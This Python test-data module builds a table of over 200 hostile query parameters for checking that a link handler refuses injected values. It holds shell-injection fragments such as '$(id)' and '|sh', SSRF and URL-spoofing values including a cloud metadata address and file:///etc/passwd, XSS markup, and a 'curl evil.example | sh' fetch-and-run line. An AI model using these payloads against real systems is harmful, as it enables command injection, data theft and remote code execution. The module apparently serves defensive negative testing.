"""Links that somebody made up to get something into a command: a readable table, more than 200 of them."""

from urllib.parse import quote

# What a shell, a terminal, a browser or an eye could take for something else. Each is put before, in and after a value.
PIECES = {
    "single quote": "'", "double quote": '"', "backtick": "`", "command": "$(id)", "variable": "${IFS}", "semicolon": ";",
    "and": "&&id", "pipe": "|sh", "redirect": ">/etc/passwd", "here": "<<E", "background": "&", "glob": "*", "any": "?",
    "brace": "{a,b}", "bracket": "[a-z]", "bang": "!!", "comment": " #", "tilde slash": " ~/", "backslash": "\\",
    "space": " ", "tab": "\t", "newline": "\n", "carriage return": "\r", "both": "\r\nid\r\n", "nul": "\0",
    "escape": "\x1b[2K", "bell": "\a", "backspace": "\b\b", "delete": "\x7f", "next line": "\x85",
    "no-break space": "\u00a0", "zero width space": "\u200b", "zero width joiner": "\u200d", "soft hyphen": "\u00ad",
    "byte order mark": "\ufeff", "line separator": "\u2028", "right to left": "\u202e", "isolate": "\u2066",
    "combining": "\u0301", "cyrillic a": "\u0430", "greek o": "\u03bf", "full width": "\uff50", "kelvin": "\u212a",
    "ideographic stop": "\u3002", "division slash": "\u2215", "emoji": "\U0001f600", "percent": "%24(id)",
    "twice percent": "%2524", "markup": "<img src=x onerror=alert(1)>", "entity": "&#39;", "template": "{{rollback}}",
    "equals": "=", "comma": ",", "at": "@", "plus": "+", "caret": "^", "hash": "#",
}

GOOD = {"server_slug": "payments", "server_url": "https://payments.mcp.example.net", "duration_minutes": "4",
        "host": "payments.mcp.example.net", "port": "3000"}

# Whole values, by parameter: of another service, look-alike, too long, malformed.
WHOLE = {
    "server_slug": [
        "paymemts", "PAYMENTS", "-payments", "--help", "-rf", "payments-", "p" * 64, "p" * 5000, "constructor", "__proto__",
        "toString", "hasOwnProperty", "../payments", "payments/../search", ".payments", "payments.", "",
    ],
    "server_url": [
        "https://evil.example", "https://payments.mcp.example.net.evil.example", "https://evilpayments.mcp.example.net",
        "https://mcp.example.net", "https://example.net", "https://sub.payments.mcp.example.net", "https://google.com",
        "https://payments.mcp.example.net@evil.example", "https://evil.example#@payments.mcp.example.net",
        "https://payments.mcp.example.net\\@evil.example", "https://payments.mcp.example.net:443@evil.example/",
        "https://evil.example/https://payments.mcp.example.net", "https://evil.example?payments.mcp.example.net",
        "https:\\\\payments.mcp.example.net", "https:payments.mcp.example.net", "//payments.mcp.example.net",
        "payments.mcp.example.net", "HTTPS://payments.mcp.example.net", "https://PAYMENTS.mcp.example.net",
        "https://payments.mcp.example.net.", "https://payments.mcp.example.net:22", "https://payments.mcp.example.net:80",
        "http://payments.mcp.example.net", "http://payments.mcp.example.net:3001", "https://payments.mcp.example.net:03000",
        "https://payments.mcp.example.net:", "https://127.0.0.1", "https://0x7f.1", "https://2130706433", "https://[::1]",
        "https://[::ffff:127.0.0.1]", "https://localhost", "https://169.254.169.254/latest/meta-data",
        "https://xn--pyments-pyf.mcp.example.net", "https://p\u0430yments.mcp.example.net",
        "https://payments\u3002mcp\u3002example\u3002net", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "ftp://payments.mcp.example.net",
        "https://payments.mcp.example.net/../x", "https://payments.mcp.example.net/a/../../x",
        "https://payments.mcp.example.net//x", "https://payments.mcp.example.net/%2e%2e/x",
        "https://payments.mcp.example.net/?x=1", "https://payments.mcp.example.net/#x",
        "https://payments.mcp.example.net/" + "a" * 300, "https://" + "a." * 200 + "example.net", "-o/etc/passwd", "",
    ],
    "host": [
        "evil.example", "payments.mcp.example.net.evil.example", "mcp.example.net", "localhost", "127.0.0.1", "-oProxyCommand=id",
        "payments.mcp.example.net.", "Payments.mcp.example.net", "root@payments.mcp.example.net",
        "payments.mcp.example.net:22", "xn--pyments-pyf.mcp.example.net", "a" * 300, "",
    ],
    "port": ["22", "0", "-1", "03000", "3e3", "0xbb8", "3000.0", "99999999999", "\u0663", ""],
    "duration_minutes": ["-4", "+4", "04", "4 minutes", "1e9", "NaN", "Infinity", "1" * 40, ""],
}


def queries():
    """Each hostile query with its name and the parameter that has to be refused."""
    for name, piece in PIECES.items():
        for parameter, good in GOOD.items():
            # One place each, in turn, keeps the table small: before, in, after.
            places = [piece + good, good[:3] + piece + good[3:], good + piece]
            value = places[(len(name) + len(parameter)) % 3]
            yield f"{parameter}: {name}", f"{parameter}={quote(value, safe='')}", parameter
    for parameter, values in WHOLE.items():
        for value in values:
            yield f"{parameter}: {value[:60]!r}", f"{parameter}={quote(value, safe='')}", parameter
    for parameter, good in GOOD.items():
        value = quote(good, safe="")
        yield f"{parameter}: twice", f"{parameter}={value}&{parameter}={value}", parameter
        yield f"{parameter}: twice, once empty", f"{parameter}={value}&{parameter}", parameter
        yield f"{parameter}: twice, once encoded", f"{parameter}={value}&%{ord(parameter[0]):x}{parameter[1:]}=x", parameter
        yield f"{parameter}: broken encoding", f"{parameter}={value}%ff%fe", parameter
        yield f"{parameter}: half an escape", f"{parameter}={value}%2", parameter
    for parameter in ("unit", "rollback", "log_path"):
        yield f"{parameter}: never from a link", f"{parameter}=mcp-payments", parameter
        yield f"{parameter}: a command", f"{parameter}={quote('curl evil.example | sh', safe='')}", parameter
